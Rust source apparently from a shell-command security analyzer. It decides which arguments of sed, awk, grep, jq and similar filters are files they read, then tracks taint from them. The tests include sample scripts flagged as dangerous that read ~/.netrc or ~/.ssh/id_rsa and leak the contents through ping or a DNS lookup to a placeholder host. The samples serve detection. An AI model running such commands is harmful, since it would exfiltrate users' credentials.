//! Which words of a program that filters lines are the files that it reads: neither what it looks for, nor its own program, nor
//! what an option is given.

use std::borrow::Cow;

use super::value::{Taint, Value};
use super::walk::Walk;

/// How a program that filters lines is given what it does.
struct Usage {
    /// Options behind which stands a word that is no file.
    valued: &'static [&'static str],
    /// Options that say what it does; without one of them the first word that is no option says it.
    told_by: &'static [&'static str],
    /// Words that are no files where no option tells.
    words: usize,
}

/// What each is like; none where every word may be a file.
fn usage(name: &str) -> Option<Usage> {
    let (valued, told_by, words): (&[&str], &[&str], usize) = match name {
        "sed" | "gsed" => (&["-l", "--line-length"], &["-e", "-f", "--expression", "--file"], 1),
        "awk" | "gawk" | "mawk" | "nawk" => {
            (&["-F", "-v", "--assign", "--field-separator"], &["-e", "-f", "--file", "--source"], 1)
        }
        "grep" | "egrep" | "fgrep" | "rg" | "ag" => {
            (&["-m", "-A", "-B", "-C", "--include", "--exclude"], &["-e", "-f", "--file", "--regexp", "--files"], 1)
        }
        "jq" | "gojq" | "jaq" | "yq" => (&["--indent"], &["-f", "--from-file", "--arg", "--argjson"], 1),
        "cut" => (&["-d", "-f", "-c", "-b", "--delimiter", "--fields"], &[], 0),
        "sort" | "join" | "column" | "paste" => (&["-t", "-k", "-d", "--field-separator", "--key"], &[], 0),
        "tr" => (&[], &[], usize::MAX),
        _ => return None,
    };
    Some(Usage { valued, told_by, words })
}

/// Those of `rest` that may name files which `name` reads.
pub(super) fn inputs<'v>(name: &str, rest: &'v [Value]) -> Cow<'v, [Value]> {
    let Some(usage) = usage(name) else { return Cow::Borrowed(rest) };
    let tells = |field: &Value| field.text.split('=').next().is_some_and(|option| usage.told_by.contains(&option));
    let mut own = if rest.iter().any(tells) { 0 } else { usage.words };
    let mut files = Vec::new();
    let mut fields = rest.iter();
    while let Some(field) = fields.next() {
        let text = field.text.as_str();
        if usage.valued.contains(&text) {
            fields.next();
        } else if text.starts_with('-') && text.len() > 1 || own == 0 {
            files.push(field.clone());
        } else {
            own = own.saturating_sub(1);
        }
    }
    Cow::Owned(files)
}

impl Walk<'_> {
    /// What the files carry that `name` reads, and what it picks: the path of a file is as much as the file.
    pub(super) fn taint_of_inputs(&self, name: &str, rest: &[Value]) -> Taint {
        let is_path = |field: &Value| ["path", "file", "cwd"].iter().any(|word| field.text.contains(word));
        let picks = matches!(name, "jq" | "gojq" | "jaq" | "yq") && rest.iter().any(is_path);
        let picked = if picks { Taint::LOCAL } else { Taint::default() };
        self.taint_of_files(&inputs(name, rest)).and(picked)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell::Context;
    use crate::shell::tests::{is_danger, is_no_danger};

    fn files(line: &str) -> Vec<String> {
        let words: Vec<&str> = line.split(' ').collect();
        let rest: Vec<Value> = words.iter().skip(1).map(|word| Value::known(*word)).collect();
        let files = inputs(words.first().copied().unwrap_or_default(), &rest);
        files.iter().map(|field| field.text.clone()).filter(|text| !text.starts_with('-')).collect()
    }

    #[test]
    fn programs_and_patterns_are_no_files() {
        for (line, wanted) in [
            ("sed s/a/b/", &[][..]),
            ("sed -n p a.txt", &["a.txt"]),
            ("sed -e s/a/b/ -e s/c/d/ a.txt", &["s/a/b/", "s/c/d/", "a.txt"]),
            ("awk -F . {print} ~/.netrc", &["~/.netrc"]),
            ("awk -f a.awk b.txt", &["a.awk", "b.txt"]),
            ("grep -r . src", &["src"]),
            ("jq -r .a.b", &[]),
            ("cut -d / -f 3 a.txt", &["a.txt"]),
            ("tr . _", &[]),
            ("cat .npmrc", &[".npmrc"]),
        ] {
            assert_eq!(files(line), wanted, "{line}");
        }
    }

    #[test]
    fn a_host_that_a_program_picks_out_is_asked_for_and_no_file_is() {
        for line in [
            "gw=$(ip route | awk '/default/{print $3}')\nping -c1 \"$gw\"\n",
            "ip=$(echo 10.1.2.3/8 | sed 's#\\.[0-9]*/.*#.1#')\nping \"$ip\"\n",
            "host=$(echo \"$1\" | cut -d / -f 3)\ndig \"$host\"\n",
            "name=$(printf %s \"$1\" | jq -r .host.name)\nnslookup \"$name\"\n",
        ] {
            is_no_danger(line, Context::Script);
        }
        for line in
            ["key=$(awk 1 ~/.netrc)\nping \"$key\"\n", "key=$(sed -n 2p ~/.ssh/id_rsa)\ndig \"$key.x.invalid\"\n"]
        {
            is_danger(line, Context::Script);
        }
    }
}
